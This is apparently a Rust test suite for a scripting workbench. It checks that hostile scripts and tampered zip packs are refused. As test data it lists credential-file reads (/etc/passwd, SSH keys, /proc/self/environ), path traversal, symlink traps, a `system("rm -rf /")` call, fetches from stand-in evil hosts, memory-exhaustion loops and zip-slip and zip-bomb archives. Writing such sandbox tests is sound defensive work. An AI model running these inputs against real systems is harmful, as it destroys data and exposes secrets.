//! Scripts and packs from somebody who means ill: each is refused with a message, and nothing outside is read or written.

use super::common::program::Folder;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::Path;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

const NET: &str = "let net = sequential([2], [linear(2)]);";

/// What a script tries, and a part of the message that it gets.
const SCRIPTS: &[(&str, &str)] = &[
    // Reading.
    ("load_npy(\"/etc/passwd\")", "/etc/passwd lies outside what this script may read"),
    ("load_npy(\"secret.npy\")", "outside what this script may read: own"),
    ("load_npy(\"own/../secret.npy\")", "outside what this script may read"),
    ("load_npy(\"own/link.npy\")", "own/link.npy, which is FOLDER/secret.npy, lies outside"),
    ("load_npy(\"link.npy\")", "outside what this script may read"),
    ("load_npy(\"own/out/secret.npy\")", "outside what this script may read"),
    ("load_npy(\"/dev/zero\")", "outside what this script may read"),
    ("load_npy(\"own/zero\")", "own/zero, which is /dev/zero, lies outside"),
    ("load_npy(\"own/pipe\")", "is a device or pipe"),
    ("load_npy(\"/proc/self/environ\")", "outside what this script may read"),
    ("load_npy(\"no/such/../../../secret.npy\")", "outside what this script may read"),
    ("load_tensors(\"../secret.safetensors\")", "outside what this script may read"),
    ("load_model(\"secret.safetensors\")", "load_model: secret.safetensors lies outside"),
    ("let net = sequential([2], [linear(2)]); net.load(\"/root/.ssh/id_rsa\")", "load: /root/.ssh/id_rsa lies outside"),
    ("dataset(\"../pictures/\")", "dataset: own/../pictures/"),
    ("dataset(\"./linked.yaml\")", "outside what this script may read"),
    ("dataset(\"./data/\")", "is a link that leads outside what this script may read"),
    ("read_records(\"records\")", "read_records: records lies outside"),
    ("import \"../outside\" as o;", "which is as far as imports reach"),
    ("import \"linked\" as o;", "which is as far as imports reach"),
    ("import \"/etc/passwd\" as o;", "not found"),
    ("import \"module\" as o;", "it is a folder, a device or a pipe, no file"),
    ("import \"endless\" as o;", "which is as far as imports reach"),
    // Writing.
    ("save_tensors(\"x.safetensors\", #{})", "outside what this script may write"),
    ("save_tensors(\"own/main.rhai\", #{})", "outside what this script may write"),
    ("save_npy(ones([2]), \"/tmp/workbench-hostile.npy\")", "outside what this script may write"),
    ("save_npy(ones([2]), \"/dev/null\")", "outside what this script may write"),
    ("save_npy(ones([2]), \"own/dangling\")", "outside what this script may write"),
    ("let net = sequential([2], [linear(2)]); net.save(\"../w.safetensors\")", "save: ../w.safetensors lies outside"),
    (
        "let net = sequential([2], [linear(2)]); run.save(net, \"../w.safetensors\")",
        "is no name inside the run's folder",
    ),
    ("save_npy(ones([2]), run.path(\"a.npy\") + \"/../../../x.npy\")", "outside what this script may write"),
    ("run.path(\"/etc/cron.d/x\")", "is no name inside the run's folder"),
    ("run.csv(\"a/../../x.csv\", [], [])", "is no name inside the run's folder"),
    ("plot(\"../x.svg\", [1.0])", "is no name inside the run's folder"),
    (
        "let p = run.path(\"a\"); p.replace(\"/a\", \"/run.json\"); save_npy(ones([2]), p)",
        "a part of the run's own record",
    ),
    ("run.path(\"checkpoints/1\")", "is a part of the run's own record"),
    ("records(\"elsewhere\", #{})", "outside what this script may write"),
    // Taking too much.
    ("fn f(n) { f(n + 1) } f(0)", "functions call each other more than 64 deep"),
    ("let s = \"x\"; loop { s += s; }", "over the limit (strings 16 MiB"),
    ("let a = [1]; loop { a += a; }", "over the limit (strings 16 MiB, arrays 10000000 elements"),
    ("let a = []; a.pad(100000000, 0)", "over the limit"),
    ("let b = blob(1000000000, 1);", "over the limit"),
    ("zeros([1000000, 1000000])", "the limit is 512.0 MiB, which --max-memory raises"),
    ("zeros([9223372036854775807, 2])", "the limit is 512.0 MiB"),
    ("zeros([100000, 1]) + zeros([1, 100000])", "the limit is 512.0 MiB"),
    ("ones([100000, 1]) @ ones([1, 100000])", "the limit is 512.0 MiB"),
    ("ones([1]).broadcast_to([1000000000000]) * 2.0", "the limit is 512.0 MiB"),
    ("let hoard = []; loop { hoard.push(ones([1000, 100]).exp()); }", "out of memory: "),
    ("let hoard = []; loop { try { hoard.push(ones([1000, 100]).exp()); } catch { } }", "out of memory: "),
    (
        "let a = ones([1000, 1000]); let b = []; for i in 0..1000 { b.push(a); } cat(b, 0)",
        "out of memory: one operation",
    ),
    // The world outside.
    ("load_model(\"hf://evil/collects/your-secret.safetensors\")", "a script fetches nothing by itself"),
    ("import \"https://evil.example/x\" as x;", "not found"),
    ("eval(\"1 + 1\")", "eval"),
    ("print(env(\"HOME\"))", "function not found: env"),
    ("system(\"rm -rf /\")", "function not found: system"),
];

#[cfg(unix)]
fn traps(folder: &Path) {
    use std::os::unix::fs::symlink;
    let own = folder.join("own");
    for (to, name) in [
        ("../secret.npy", "link.npy"),
        ("..", "out"),
        ("/dev/zero", "zero"),
        ("../m.yaml", "linked.yaml"),
        ("../outside.rhai", "linked.rhai"),
        ("/dev/zero", "endless.rhai"),
        ("../not-there.npy", "dangling"),
    ] {
        symlink(to, own.join(name)).unwrap();
    }
    symlink(folder.join("secret.npy"), own.join("data/train/cat/1.png")).unwrap();
    for pipe in ["pipe", "module.rhai"] {
        assert!(std::process::Command::new("mkfifo").arg(own.join(pipe)).status().unwrap().success());
    }
}

/// Every file below `folder` with its content.
fn listing(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            out.extend(listing(&entry.path()));
        } else if kind.is_file() {
            out.insert(entry.path().display().to_string(), std::fs::read(entry.path()).unwrap());
        }
    }
    out
}

#[cfg(unix)]
#[test]
fn hostile_scripts_are_refused() {
    let folder = Folder::new(&[
        ("own/data/train/cat/0.png", ""),
        ("secret.npy", "secret"),
        ("secret.safetensors", "secret"),
        ("pictures/train/cat/0.png", "secret"),
        ("m.yaml", "secret: 1"),
        ("records/records.jsonl", "{}"),
        ("outside.rhai", "fn o() { 1 }"),
    ]);
    traps(folder.path());
    let before = listing(folder.path());
    let mut wrong = vec![];
    for (script, expected) in SCRIPTS {
        std::fs::write(folder.path().join("own/main.rhai"), format!("{script};")).unwrap();
        let output = folder.run(&["run", "own/main.rhai", "--max-memory", "0.5"]);
        if !output.contains(expected) || !output.ends_with("exit code 1") || output.contains("internal error") {
            wrong.push(format!("{script}\n-> {output}\n"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let runs = folder.path().join("runs").display().to_string();
    let mut after = listing(folder.path());
    after.retain(|path, _| !path.starts_with(&runs) && !path.ends_with("own/main.rhai"));
    assert_eq!(before, after, "something outside the run's folder was written");
}

#[cfg(unix)]
#[test]
fn what_the_command_line_names_is_allowed() {
    let folder = Folder::new(&[
        ("own/make.rhai", "save_npy(ones([2]), \"x.npy\");"),
        ("own/read.rhai", "let cfg = settings(#{ x: \"\" }); print(load_npy(cfg.x).sum().item());"),
        ("own/fixed.rhai", "print(load_npy(\"x.npy\").sum().item());"),
    ]);
    let run = |arguments: &[&str]| folder.run(&[&["run"], arguments].concat());
    assert!(run(&["own/make.rhai"]).contains("add --allow-write x.npy"));
    assert!(run(&["own/make.rhai", "--allow-write", "x.npy"]).ends_with("exit code 0"));
    assert!(run(&["own/read.rhai", "--set", "x=x.npy"]).starts_with("2.0"));
    assert!(run(&["own/fixed.rhai"]).contains("add --allow-read x.npy"));
    assert!(run(&["own/fixed.rhai", "--allow-read", "x.npy"]).starts_with("2.0"));
    assert!(run(&["own/fixed.rhai", "--allow-read", "."]).starts_with("2.0"));
    // Its own folder needs no leave, wherever it is run from.
    std::fs::rename(folder.path().join("x.npy"), folder.path().join("own/x.npy")).unwrap();
    assert!(run(&["own/fixed.rhai"]).starts_with("2.0"));
    // Limits can be raised.
    std::fs::write(folder.path().join("deep.rhai"), "fn f(n) { if n == 0 { 0 } else { 1 + f(n - 1) } } print(f(900));")
        .unwrap();
    assert!(run(&["deep.rhai"]).contains("--max-calls raises the limit"));
    assert!(run(&["deep.rhai", "--max-calls", "1000"]).starts_with("900"));
    let nested = format!(
        "fn f(n) {{ if n == 0 {{ 0 }} else {{ {}f(n - 1){} }} }} print(f(900));",
        "(1 + ".repeat(50),
        ")".repeat(50)
    );
    std::fs::write(folder.path().join("nested.rhai"), nested).unwrap();
    assert!(run(&["nested.rhai", "--max-calls", "1000"]).starts_with("45000"));
}

#[cfg(unix)]
#[test]
fn at_the_prompt_a_person_acts_until_a_script_is_loaded() {
    let folder = Folder::new(&[("own/a.rhai", "fn harmless() { load_npy(\"/etc/passwd\") }")]);
    let typed = folder.feed("save_npy(ones([2]), \"/tmp/../tmp/workbench-prompt.npy\"); print(1);\n");
    let _ = std::fs::remove_file("/tmp/workbench-prompt.npy");
    assert!(typed.starts_with('1') && typed.ends_with("exit code 0"), "{typed}");
    let loaded = folder.feed(":load own/a.rhai\nharmless()\n");
    assert!(loaded.contains("/etc/passwd lies outside what this script may read"), "{loaded}");
}

/// A change of a good pack: entries, and the list `pack.json`.
type Change = fn(&mut Vec<(String, Vec<u8>)>, &mut serde_json::Value);

fn set(list: &mut serde_json::Value, name: &str, bytes: &[u8]) {
    let sum: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
    list["files"][name] = serde_json::json!({ "bytes": bytes.len(), "sha256": sum });
}

fn added(entries: &mut Vec<(String, Vec<u8>)>, list: &mut serde_json::Value, name: &str, bytes: &[u8]) {
    entries.push((name.into(), bytes.to_vec()));
    set(list, name, bytes);
}

fn record(
    entries: &mut [(String, Vec<u8>)],
    list: &mut serde_json::Value,
    change: impl FnOnce(&mut serde_json::Value),
) {
    let entry = entries.iter_mut().find(|(name, _)| name == "run.json").unwrap();
    let mut record = serde_json::from_slice(&entry.1).unwrap();
    change(&mut record);
    entry.1 = serde_json::to_vec(&record).unwrap();
    set(list, "run.json", &entry.1);
}

/// What was done to a pack, and a part of the message.
const PACKS: &[(&str, Change, &str)] = &[
    (
        "a name that goes up",
        |e, l| added(e, l, "../evil.rhai", b"x"),
        "the name `../evil.rhai` leads out of the folder",
    ),
    ("a name that goes up inside", |e, l| added(e, l, "source/../../evil", b"x"), "leads out of the folder"),
    ("an absolute name", |e, l| added(e, l, "/tmp/workbench-evil", b"x"), "leads out of the folder"),
    ("another system's separator", |e, l| added(e, l, "..\\evil", b"x"), "leads out of the folder"),
    ("a drive", |e, l| added(e, l, "C:evil", b"x"), "holds signs"),
    ("a hidden file", |e, l| added(e, l, ".bashrc", b"x"), "is hidden"),
    ("a control sign", |e, l| added(e, l, "a\u{7}b", b"x"), "holds signs"),
    ("many levels", |e, l| added(e, l, "a/b/c/d/e/f/g/h/i", b"x"), "levels"),
    ("two names of one file", |e, l| added(e, l, "RUN.JSON", b"x"), "comes twice"),
    ("a file that is not listed", |e, _| e.push(("extra".into(), vec![1])), "it holds 5 files, pack.json lists 4"),
    (
        "a listed file that is missing",
        |_, l| set(l, "weights.safetensors", b"x"),
        "it holds 4 files, pack.json lists 5",
    ),
    (
        "another file than listed",
        |e, l| {
            e.push(("extra".into(), vec![1]));
            set(l, "weights.safetensors", b"x");
        },
        "`extra` is not in pack.json",
    ),
    (
        "a wrong checksum",
        |e, _| e.iter_mut().find(|(n, _)| n == "metrics.jsonl").unwrap().1 = b"{\"b\":2}\n".to_vec(),
        "the checksum of",
    ),
    (
        "more than listed",
        |e, _| e.iter_mut().find(|(n, _)| n == "metrics.jsonl").unwrap().1.push(b' '),
        "has more bytes",
    ),
    (
        "less than listed",
        |e, _| e.iter_mut().find(|(n, _)| n == "metrics.jsonl").unwrap().1.truncate(3),
        "pack.json says",
    ),
    ("a bomb", |e, l| added(e, l, "zeros", &vec![0; 64 << 20]), "for a pack of this size"),
    (
        "sizes beyond counting",
        |_, l| {
            l["files"]["a"] = serde_json::json!({ "bytes": u64::MAX, "sha256": "" });
            l["files"]["b"] = serde_json::json!({ "bytes": u64::MAX, "sha256": "" });
        },
        "too many bytes",
    ),
    ("a list of another kind", |_, l| l["files"] = serde_json::json!([1]), "pack.json is damaged"),
    ("more in the list", |_, l| l["run"] = serde_json::json!("rm"), "pack.json is damaged"),
    ("another format", |_, l| l["format"] = "workbench pack 99".into(), "its format is `workbench pack 99`"),
    ("a run's name that goes up", |_, l| l["name"] = "../../x".into(), "the run's name `../../x` leads out"),
    (
        "a script's name that goes up",
        |e, l| record(e, l, |r| r["main"] = "../../x.rhai".into()),
        "the script's name `../../x.rhai` leads out",
    ),
    (
        "a script that is not there",
        |e, l| record(e, l, |r| r["main"] = "other.rhai".into()),
        "does not list the script",
    ),
    (
        "a script that was changed",
        |e, l| {
            e.iter_mut().find(|(n, _)| n == "source/main.rhai").unwrap().1 = b"print(\"evil\")".to_vec();
            set(l, "source/main.rhai", b"print(\"evil\")");
        },
        "source/main.rhai is not as run.json says",
    ),
    (
        "a script that nobody imports",
        |e, l| added(e, l, "stdlib/train.rhai", b"x"),
        "is a script that run.json does not list",
    ),
    (
        "something else among the scripts",
        |e, l| {
            let sum: String = Sha256::digest(b"{\"a\":1}\n").iter().map(|b| format!("{b:02x}")).collect();
            record(e, l, |r| r["files"]["metrics.jsonl"] = sum.into());
        },
        "run.json lists `metrics.jsonl` among the scripts",
    ),
    (
        "a record of another kind",
        |e, l| record(e, l, |r| r["evil"] = true.into()),
        "run.json is damaged or of another version",
    ),
];

fn write(path: &Path, entries: &[(String, Vec<u8>)], list: &serde_json::Value) {
    let mut zip = ZipWriter::new(std::fs::File::create(path).unwrap());
    zip.start_file("pack.json", SimpleFileOptions::default()).unwrap();
    zip.write_all(&serde_json::to_vec(list).unwrap()).unwrap();
    for (name, bytes) in entries {
        zip.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

#[test]
fn hostile_packs_are_refused_before_anything_is_written() {
    let folder = Folder::new(&[("main.rhai", NET)]);
    assert!(folder.run(&["run", "main.rhai", "--into", "run"]).ends_with("exit code 0"));
    std::fs::write(folder.path().join("run/metrics.jsonl"), "{\"a\":1}\n").unwrap();
    let _ = std::fs::remove_file(folder.path().join("run/output.txt"));
    for unneeded in ["report.html", "plots"] {
        let _ = std::fs::remove_file(folder.path().join("run").join(unneeded));
        let _ = std::fs::remove_dir_all(folder.path().join("run").join(unneeded));
    }
    assert!(folder.run(&["pack", "run", "--into", "good.workbench"]).ends_with("exit code 0"));
    let bytes = std::fs::read(folder.path().join("good.workbench")).unwrap();
    let mut zip = ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
    let mut good = vec![];
    for at in 0..zip.len() {
        let mut entry = zip.by_index(at).unwrap();
        let mut content = vec![];
        entry.read_to_end(&mut content).unwrap();
        good.push((entry.name().unwrap().into_owned(), content));
    }
    let list: serde_json::Value = serde_json::from_slice(&good.remove(0).1).unwrap();
    assert_eq!(good.len(), 4, "run.json, metrics.jsonl, metrics.csv, source/main.rhai");

    let refused = |what: &str, expected: &str| {
        let before = listing(folder.path());
        for command in [
            &["unpack", "bad.workbench"][..],
            &["run", "bad.workbench"],
            &["replay", "bad.workbench"],
            &["compare", "bad.workbench", "run"],
        ] {
            let output = folder.run(command);
            assert!(output.contains(expected), "{what}, {command:?}: {output}");
            assert!(!output.ends_with("exit code 0") && !output.contains("panicked"), "{what}: {output}");
        }
        assert_eq!(before, listing(folder.path()), "{what}: something was written");
    };
    let bad = folder.path().join("bad.workbench");
    for (what, change, expected) in PACKS {
        let (mut entries, mut list) = (good.clone(), list.clone());
        change(&mut entries, &mut list);
        write(&bad, &entries, &list);
        refused(what, expected);
    }
    // What no list of entries can say.
    std::fs::write(&bad, &bytes[..bytes.len() / 2]).unwrap();
    refused("a cut-off file", "no zip archive, or a cut-off one");
    std::fs::write(&bad, "PK, or so").unwrap();
    refused("no archive", "no zip archive");
    let mut zip = ZipWriter::new(std::fs::File::create(&bad).unwrap());
    zip.add_symlink("pack.json", "/etc/passwd", SimpleFileOptions::default()).unwrap();
    zip.finish().unwrap();
    refused("a link in place of the list", "pack.json is damaged");
    let mut zip = ZipWriter::new(std::fs::File::create(&bad).unwrap());
    let mut linked = list.clone();
    set(&mut linked, "link", b"/etc/passwd");
    zip.start_file("pack.json", SimpleFileOptions::default()).unwrap();
    zip.write_all(&serde_json::to_vec(&linked).unwrap()).unwrap();
    for (name, bytes) in &good {
        zip.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.add_symlink("link", "/etc/passwd", SimpleFileOptions::default()).unwrap();
    zip.finish().unwrap();
    refused("a link", "`link` is a folder or a link");
}

#[test]
fn a_pack_with_any_byte_changed_is_refused_or_the_same() {
    let folder = Folder::new(&[("main.rhai", "print(\"one\"); run.result(#{ a: 1.0 });")]);
    assert!(folder.run(&["run", "main.rhai", "--into", "run"]).ends_with("exit code 0"));
    assert!(folder.run(&["pack", "run", "--into", "good.workbench"]).ends_with("exit code 0"));
    let bytes = std::fs::read(folder.path().join("good.workbench")).unwrap();
    let good = workbench::run::archive::Pack::open(&folder.path().join("good.workbench")).unwrap();
    let mut refused = 0;
    for at in (0..bytes.len()).step_by(7) {
        let mut changed = bytes.clone();
        changed[at] ^= 1 << (at % 8);
        let path = folder.path().join("changed.workbench");
        std::fs::write(&path, changed).unwrap();
        match workbench::run::archive::Pack::open(&path) {
            // A date, say, is nobody's concern.
            Ok(pack) => assert_eq!(pack.record, good.record),
            Err(_) => refused += 1,
        }
    }
    assert!(refused > bytes.len() / 7 / 2, "{refused}");
}
